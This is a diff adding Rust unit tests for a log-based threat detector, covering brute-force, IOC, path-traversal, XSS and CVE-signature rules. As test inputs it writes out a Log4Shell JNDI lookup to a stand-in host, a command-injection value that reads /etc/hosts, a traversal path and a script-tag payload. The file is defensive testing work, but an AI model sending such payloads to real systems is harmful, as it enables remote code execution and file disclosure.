+        assert_eq!(rules, vec!["discovery.exposure"]);
+        assert_eq!((result.suppressed.reports, result.suppressed.findings), (1, 0));
+    }
+
+    #[test]
+    fn behavioral_findings_take_feedback() {
+        let agent = [("http.user_agent", "Mozilla/5.0")];
+        let mut entries: Vec<LogEntry> =
+            (0..200).map(|i| request(i / 4, "203.0.113.5", "GET", &format!("/dir{}", i), 404, &agent)).collect();
+        entries.push(request(50, "203.0.113.5", "GET", "/.git/config", 200, &agent));
+        entries.extend((0..10).map(|_| entry("WARN", "Failed password for root from 10.0.0.1 port 22 ssh2")));
+
+        let result = BasicAnalyzer::with_rules(RuleSet::default_pack()).analyze(&entries);
+        let ids: BTreeSet<&str> = result.findings.iter().map(|f| f.rule_id.as_str()).collect();
+        for id in ["discovery.forced_browsing", "discovery.exposure", "auth.brute_force"] {
+            assert!(ids.contains(id), "{} not found in {:?}", id, ids);
+        }
+        for id in ids {
+            assert!(feedback::known_rule(id).is_some(), "{} takes no feedback", id);
+        }
+    }
+
+    #[test]
+    fn ioc_tagged_entries_raise_threat_intel_findings() {
+        let mut iocs = security_common::ioc::IocSet::default();
+        iocs.add_list("c2-servers", "c2-servers.txt", "10.0.0.0/24\n");
+        let mut entries = vec![entry("INFO", "GET /beacon"), entry("INFO", "GET /")];
+        entries[1].ip_address = Some("192.168.1.5".to_string());
+        iocs.tag(&mut entries, &[]);
+
+        let result = BasicAnalyzer::new().analyze(&entries);
+        assert_eq!(result.findings.len(), 1);
+        assert_eq!(result.findings[0].rule_id, "log.threat_intel");
+        assert_eq!(result.findings[0].matched, "10.0.0.0/24");
+        assert_eq!(result.threat_counts(), vec![(ThreatType::ThreatIntelMatch, 1)]);
+        assert!(result.is_high_risk("10.0.0.1"));
+        assert!(!result.is_high_risk("192.168.1.5"));
+    }
+
+    #[test]
+    fn feedback_lowers_noisy_rules() {
+        use security_common::feedback::{FeedbackRecord, FeedbackStore, Verdict};
+        let mut store = FeedbackStore::default();
+        for _ in 0..5 {
+            store.record(FeedbackRecord::new("http.path_traversal", Verdict::FalsePositive)).unwrap();
+        }
+        let traversal = get(0, "10.0.0.1", "/download?file=../../etc/hosts", 200);
+
+        let result = BasicAnalyzer::with_rules(RuleSet::default_pack())
+            .with_feedback(store.adjustments())
+            .analyze(&[traversal]);
+        assert_eq!(result.findings[0].severity, Severity::Low);
+        assert_eq!(result.findings[0].downgraded_from, Some(Severity::High));
+        assert_eq!(result.downgraded.get("http.path_traversal"), Some(&1));
+        // Still counted, no longer enough to rank the source high risk
+        assert_eq!(result.path_traversal_attempts, 1);
+        assert!(!result.is_high_risk("10.0.0.1"));
+    }
+
+    #[test]
+    fn custom_rules_feed_cvss_scores() {
+        let mut rules = RuleSet::default_pack();
+        rules.extend(
+            RuleSet::from_toml_str(
+                r#"
+                [[rules]]
+                id = "custom.xss_in_message"
+                name = "XSS payload"
+                threat_type = "xss"
+                severity = "high"
+                [[rules.all]]
+                field = "message"
+                regex = "<script[^>]*>"
+                "#,
+            )
+            .unwrap(),
+        );
+        let analyzer = BasicAnalyzer::with_rules(rules);
+        let result = analyzer.analyze(&[entry("INFO", "comment=<SCRIPT>alert(1)</script>")]);
+        assert_eq!(result.xss_attempts, 1);
+        assert_eq!(result.total_threats(), 1);
+        let scores = analyzer.generate_cvss_scores(&result);
+        assert_eq!(scores[0].threat_type, "Cross-Site Scripting");
+    }
+
+    #[test]
+    fn exploit_signatures_are_scored_per_cve() {
+        let entries = vec![
+            get(0, "10.0.0.1", "/cgi-bin/x?q=${jndi:ldap://203.0.113.7/a}", 200),
+            get(1, "10.0.0.1", "/ping?host=1;cat%20/etc/hosts", 200),
+        ];
+        let analyzer = BasicAnalyzer::with_rules(RuleSet::default_pack());
+        let result = analyzer.analyze(&entries);
+        assert_eq!(result.command_injection_attempts, 2);
+        assert_eq!(result.findings[0].rule_id, "cve.log4shell");
+        assert_eq!(result.findings[0].vulnerability.as_ref().unwrap().cve, "CVE-2021-44228");
+
+        let scores = analyzer.generate_cvss_scores(&result);
+        let row = |name: &str| scores.iter().find(|s| s.threat_type == name).unwrap();
+        let log4shell = row("CVE-2021-44228 (Apache Log4j 2)");
+        assert_eq!((log4shell.count, log4shell.cvss_score), (1, 10.0));
+        assert_eq!(row("Command Injection").count, 1);
+    }
 }